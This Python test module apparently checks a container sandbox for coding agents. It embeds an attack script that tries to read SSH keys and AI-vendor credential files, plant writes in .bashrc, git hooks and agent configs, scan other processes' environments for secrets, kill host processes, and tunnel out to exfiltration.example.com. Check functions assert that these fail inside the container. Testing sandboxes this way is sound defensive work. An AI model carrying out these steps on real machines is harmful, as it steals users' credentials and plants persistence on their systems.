"""Attacks of a hostile program from inside a container, and the host that it attacks."""

import asyncio
import contextlib
import json
import socket
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

SECRET = "sk-of-the-person"
ATTACK = r"""
import json, os, signal, socket, sys
aim = json.load(open("aim.json"))
got = {}

def read(path):
    with open(path, "rb") as file:
        return file.read(200).decode("latin-1") or "(empty)"

def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write("owned")

def connect(host, port):
    socket.create_connection((host, port), 3).close()

def tunnel(authority):
    proxy = os.environ["HTTPS_PROXY"].rpartition("/")[2].partition(":")
    with socket.create_connection((proxy[0], int(proxy[2])), 3) as sock:
        sock.settimeout(10)
        sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        answer = sock.recv(1000).decode()
    assert " 200 " in answer.splitlines()[0], answer
    return answer

def read_all(path):
    try:
        return open(path, "rb").read().decode("latin-1")
    except OSError:
        return ""

def write_a_setting_of_the_kernel():
    with open("/proc/sys/kernel/core_pattern", "r+") as file:
        file.write(file.read())

def make_a_namespace():
    import ctypes
    if ctypes.CDLL(None).unshare(0x10000000 | 0x00020000) != 0:
        raise OSError

home, other, project, git = aim["home"], aim["other"], aim["project"], aim["git"]
ATTACKS = {
    "read_a_private_key": lambda: read(home + "/.ssh/id_x"),
    "read_another_project": lambda: read(other + "/secret.txt"),
    "read_the_record": lambda: read(project + "/.remit/remit.db"),
    "read_the_scratch_of_others": lambda: read(project + "/.remit/scratch/other/notes.txt"),
    "read_the_vendors_credentials_of_the_person": lambda: read(home + "/.claude/.credentials.json"),
    "write_into_the_home": lambda: write(home + "/.bashrc"),
    "write_into_another_project": lambda: write(other + "/owned.txt"),
    "write_a_git_hook": lambda: write(git + "/hooks/post-checkout"),
    "write_the_git_settings": lambda: write(git + "/config"),
    "write_hooks_of_claude": lambda: write(home + "/.claude/settings.json"),
    "write_servers_of_codex": lambda: write(home + "/.codex/config.toml"),
    "write_plugins_of_opencode": lambda: write(home + "/.config/opencode/plugin/owned.js"),
    "write_an_agent_of_remit": lambda: write(project + "/.remit/agents/owned.py"),
    "change_a_program_of_the_system": lambda: os.access(sys.executable, os.W_OK) or 1 / 0,
    "write_a_setting_of_the_kernel": write_a_setting_of_the_kernel,
    "connect_to_a_port_of_the_host": lambda: connect("127.0.0.1", aim["port"]),
    "connect_to_an_address_of_the_host": lambda: connect(aim["address"], aim["port"]),
    "tunnel_to_a_port_of_the_host": lambda: tunnel(f"127.0.0.1:{aim['port']}"),
    "tunnel_to_a_name_of_the_host": lambda: tunnel(f"localhost:{aim['port']}"),
    "tunnel_to_an_unlisted_host": lambda: tunnel("exfiltration.example.com:443"),
    "tunnel_to_a_number": lambda: tunnel("2130706433:443"),
    "look_up_a_name": lambda: socket.getaddrinfo("exfiltration.example.com", 443),
    "read_the_environment_of_others": lambda: [
        pid for pid in os.listdir("/proc") if pid.isdigit() and aim["secret"] in read_all(f"/proc/{pid}/environ")
    ] or 1 / 0,
    "have_the_key_of_the_person": lambda: next(name for name, value in os.environ.items() if value == aim["secret"]),
    "signal_a_process_of_the_host": lambda: os.kill(aim["pid"], signal.SIGKILL),
    "make_a_namespace": make_a_namespace,
}
for name, act in ATTACKS.items():
    try:
        got[name] = act() or "it worked"
    except BaseException:
        got[name] = None
json.dump(got, open("report.json", "w"))
open("made.txt", "w").write("made inside")
print("tried", len(got))
"""


_NEVER = frozenset({"look_up_a_name", "have_the_key_of_the_person", "make_a_namespace", "write_a_setting_of_the_kernel"})
"""Attacks that depend on the machine, or that every command is denied."""


class Victim:
    """A user's machine: a home with keys, another project, a server on the loopback interface, a process."""

    def __init__(self, folder: Path, project: Path) -> None:
        self.home, self.other, self.project = folder / "person", folder / "other", project
        self.connections = 0
        for path, text in (
            (self.home / ".ssh" / "id_x", "PRIVATE KEY"),
            (self.home / ".claude" / ".credentials.json", "{}"),
            (self.home / ".bashrc", "true\n"),
            (self.other / "secret.txt", "OTHER"),
            (project / ".remit" / "scratch" / "other" / "notes.txt", "NOTES"),
        ):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        self._before: dict[str, str] = {}

    def start(self) -> None:
        self.process = subprocess.Popen([sys.executable, "-I", "-S", "-c", "import time; time.sleep(600)"], env={"KEY": SECRET})

    def arm(self, **more: Any) -> None:
        """Put the attack program and its targets into the project."""
        aim = {"home": str(self.home), "other": str(self.other), "project": str(self.project), "git": str(self.project / ".git")}
        aim |= {"port": self.port, "address": _own_address(), "pid": self.process.pid, "secret": SECRET, **more}
        (self.project / "aim.json").write_text(json.dumps(aim))
        (self.project / "attack.py").write_text(ATTACK)

    def seal(self) -> None:
        """Record the state of the host; nothing may change afterwards."""
        self._before = self._look()

    def check(self, report: Path) -> None:
        """Check that no attack succeeded, whatever the program reports, and that the regular work did."""
        got = json.loads(report.read_text())
        assert len(got) >= 25
        # Writes are verified on the host: the container has its own /tmp, which is where the tests run.
        worked = {name: found for name, found in got.items() if found and not name.startswith("write_")}
        assert not worked, worked
        assert (report.parent / "made.txt").read_text() == "made inside"
        assert self.connections == 0
        assert self.process.poll() is None
        assert self._look() == self._before

    def check_attacks(self, report: Path) -> None:
        """Check that the attacks succeed in an uncontained run."""
        got = json.loads(report.read_text())
        failed = {name for name, found in got.items() if not found}
        assert {name for name in failed if "tunnel" not in name} <= _NEVER, failed
        assert self.process.wait(5) != 0
        assert self._look() != self._before

    def _look(self) -> dict[str, str]:
        places = (self.home, self.other, self.project / ".git" / "hooks", self.project / ".remit" / "agents")
        files = [path for place in places for path in place.rglob("*") if path.is_file()]
        return {str(path): path.read_text(errors="replace") for path in files if "__pycache__" not in path.parts}


@contextlib.asynccontextmanager
async def victim(folder: Path, project: Path) -> AsyncIterator[Victim]:
    made = Victim(folder, project)

    def count(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        made.connections += 1
        writer.close()

    server = await asyncio.start_server(count, "0.0.0.0", 0)
    made.port = server.sockets[0].getsockname()[1]
    made.start()
    try:
        yield made
    finally:
        server.close()
        made.process.kill()
        await asyncio.to_thread(made.process.wait)


def _own_address() -> str:
    """Address of a non-loopback interface of this machine, if there is one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, contextlib.suppress(OSError):
        sock.connect(("192.0.2.1", 9))
        return str(sock.getsockname()[0])
    return "127.0.0.1"
